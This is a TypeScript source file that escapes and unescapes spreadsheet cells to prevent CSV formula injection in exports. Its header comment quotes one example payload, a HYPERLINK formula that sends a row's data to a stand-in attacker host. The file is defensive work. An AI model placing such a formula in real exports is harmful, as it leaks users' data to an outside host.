/**
 * Spreadsheet formula injection (CSV injection): Excel, WPS and LibreOffice run a cell that starts
 * with = + - @, a tab or a carriage return as a formula, so an exported name such as
 * =HYPERLINK("http://evil.example/?leak="&A2,"点击") would send the row to another host when the
 * file is opened. Exports prefix such cells with a single quote (OWASP's advice), which every
 * spreadsheet shows as text. A cell that already starts with a quote gets one more, so that
 * unescapeCell undoes escapeCell exactly and an import of an export changes nothing.
 */

/** The first characters a spreadsheet reads as the start of a formula, and the escape itself. */
const NEEDS_ESCAPE = /^[=+\-@\t\r']/;

/** A plain decimal number, as a numeric column writes it: a spreadsheet reads it as a number, never a formula. */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?([eE][-+]?\d+)?$/;

/**
 * The cell as an export writes it. A number of a numeric column (a longitude of −0.5, a count)
 * stays a number; anything else that could start a formula is quoted.
 */
export function escapeCell(text: string, kind: 'number' | 'text' = 'text'): string {
	if (kind === 'number' && PLAIN_NUMBER.test(text)) return text;
	return NEEDS_ESCAPE.test(text) ? `'${text}` : text;
}

/** The cell as it was before escapeCell: what an import reads from an exported file. */
export function unescapeCell(text: string): string {
	return text.startsWith("'") && NEEDS_ESCAPE.test(text.slice(1)) ? text.slice(1) : text;
}
